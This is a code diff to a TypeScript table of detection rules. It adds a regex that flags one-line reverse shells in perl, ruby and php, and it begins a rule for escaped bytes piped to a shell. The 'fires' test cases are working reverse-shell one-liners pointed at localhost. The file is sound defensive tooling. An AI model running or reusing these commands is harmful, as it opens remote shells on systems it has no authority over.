@@ -5,6 +5,22 @@ import type { Row } from './script-row.ts';
 export const SPELT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
+    // A connection and a shell in a program of one line.
+    pattern:
+      /\b(?:perl|ruby|php|lua|node|python[\d.]*)\b(?=[^\n]*\s-\w{0,3}[ecr]\b)(?=[^\n]*(?:IO::Socket|TCPSocket|fsockopen|socket\.socket|socket\.tcp|net\.(?:connect|Socket)|use Socket))[^\n]*(?:fdopen|dup2|\/bin\/(?:ba|z|da)?sh\b|\bexec\b|\bsystem\b|\bproc_open\b|\bspawn\b)/,
+    fires: [
+      `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"127.0.0.1:9");STDIN->fdopen($c,r);system$_ while<>'`,
+      `ruby -rsocket -e 'exit if fork;c=TCPSocket.new("127.0.0.1",9);exec "/bin/sh"'`,
+      `php -r '$s=fsockopen("127.0.0.1",9);exec("sh <&3 >&3 2>&3");'`,
+    ],
+    quiet: [
+      `python -c 'import socket; print(socket.socket().getsockname())'`,
+      `perl -e 'print "IO::Socket"'`,
+      `php -r 'system("ls");'`,
+    ],
+  },
+  {
+    rule: ATTACKING_SCRIPT,
     // Codes of letters that a shell is handed.
     pattern:
       /\b(?:printf|echo\s+-\w*e\w*)\s+["']?(?:\\(?:x[0-9a-f]{2}|0?[0-7]{3})){4}[^\n|]{0,1000}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\bprintf\s+["']?\\{1,2}(?:x|0)?"?\$\w/i,
